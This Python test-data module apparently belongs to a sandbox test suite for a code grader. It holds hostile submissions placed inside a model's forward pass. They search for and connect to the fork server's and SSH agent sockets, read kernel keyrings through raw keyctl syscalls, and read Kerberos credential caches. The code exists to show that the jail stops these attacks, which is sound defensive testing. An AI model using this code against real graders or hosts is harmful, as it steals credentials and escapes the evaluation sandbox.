"""Hostile submissions against the jail's layers, as data, in the
format of ``kit_tests/attacks.py``: each body runs inside
``SelfAttention.forward`` and reports what it saw as ``ATTACK {json}``.

``@TARGETS@`` is a JSON object here: ``sockets`` (named unix sockets the
test listens on, the fork server's own address found at run time added),
``abstract`` (abstract socket names the test listens on), ``key`` (the
description of the canary key the test planted in the grader's keyrings).
"""
from __future__ import annotations

import json

from kit_tests import attacks

ATTACKS: dict[str, str] = {
    # Ask the fork server (or any listener of the grader) for a process:
    # its address is found in this process's memory (the frames of the
    # fork server's code, multiprocessing's own state, its temp folder).
    "fork_server": '''
    import glob
    import multiprocessing.forkserver
    import multiprocessing.process
    import socket
    found = set(TARGETS["sockets"])
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str) and "listener-" in value and \
                    value.startswith("/") and len(value) < 200:
                found.add(value)
        frame = frame.f_back
    server = multiprocessing.forkserver._forkserver
    if getattr(server, "_forkserver_address", None):
        found.add(server._forkserver_address)
    tempdir = multiprocessing.process.current_process()._config.get(
        "tempdir")
    if tempdir:
        found.update(glob.glob(os.path.join(tempdir, "listener-*")))
    for env in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS"):
        if os.environ.get(env):
            found.add(os.environ[env])
    connected, errors = [], {}
    targets = [(a, a) for a in sorted(found)] + \\
        [("\\0" + a, "@" + a) for a in TARGETS["abstract"]]
    for address, shown in targets:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                s = socket.socket(socket.AF_UNIX, kind)
            except OSError as exc:
                errors[shown] = f"socket: {exc}"
                continue
            try:
                s.connect(address)
                connected.append(shown)
            except OSError as exc:
                errors[shown] = f"connect: {exc}"
            finally:
                s.close()
    # A socket pair could connect() again if it were a datagram one.
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for address, shown in targets:
            try:
                a.connect(address)
                connected.append("pair:" + shown)
            except OSError:
                pass
    except OSError as exc:
        errors["socketpair"] = str(exc)
    return {"found": sorted(found), "connected": connected,
            "errors": sorted(set(errors.values()))[:4]}
''',
    # Read every keyring this process can name with raw keyctl calls.
    "keyrings": '''
    import platform
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {"x86_64": (250, 248), "aarch64": (219, 217)}[platform.machine()]
    keyctl, add_key = nr

    def call(*args):
        out = libc.syscall(ctypes.c_long(keyctl), *[ctypes.c_long(a)
                           if isinstance(a, int) else a for a in args])
        return out, ctypes.get_errno()

    payloads, errors = [], {}
    ids = []
    for ring, name in ((-3, "session"), (-4, "user"),
                       (-5, "user-session"), (-2, "process"),
                       (-1, "thread")):
        buf = ctypes.create_string_buffer(4096)
        n, err = call(11, ring, buf, 4096)    # KEYCTL_READ: key ids
        if n < 0:
            errors[name] = err
            continue
        ids += [int.from_bytes(buf.raw[i:i + 4], "little", signed=True)
                for i in range(0, min(n, 4096), 4)]
        found, err = call(10, ring, b"user", TARGETS["key"].encode(), 0)
        if found > 0:                         # KEYCTL_SEARCH
            ids.append(found)
    for key in ids:
        buf = ctypes.create_string_buffer(4096)
        n, err = call(11, key, buf, 4096)
        if n > 0:
            payloads.append(buf.raw[:min(n, 4096)].decode(errors="replace"))
    planted = libc.syscall(ctypes.c_long(add_key), b"user", b"left",
                           b"x", ctypes.c_long(1), ctypes.c_long(-4))
    return {"payloads": payloads, "errors": errors,
            "planted": planted > 0}
''',
    # Credentials a grader's environment may hold: Kerberos caches, agent
    # and bus sockets named by the environment.
    "credentials": '''
    import glob
    seen = {k: v for k, v in os.environ.items()
            if k in ("KRB5CCNAME", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS",
                     "XDG_RUNTIME_DIR")}
    read = []
    for path in glob.glob("/tmp/krb5cc*") + glob.glob("/run/user/*/*"):
        try:
            with open(path, "rb") as f:
                read.append(f.read(64).decode(errors="replace"))
        except OSError:
            pass
    return {"env": seen, "read": read}
''',
}


def submission(name: str, targets: dict, mark: str) -> str:
    """The hostile module for attack ``name``."""
    body = ATTACKS[name].strip("\n")
    source = attacks.HARNESS.replace("@BODY@", body)
    source = source.replace("@TARGETS@", repr(json.dumps(targets)))
    return source.replace("@MARK@", repr(mark))


def run_unjailed(name: str, targets: dict) -> dict:
    """Run attack ``name``'s body here, with no jail (a test proves the
    attack would work if the jail did not stop it)."""
    namespace: dict = {}
    exec(compile(submission(name, targets, "0"), f"<{name}>", "exec"),
         namespace)
    return namespace["attack"]()


__all__ = ["ATTACKS", "run_unjailed", "submission"]
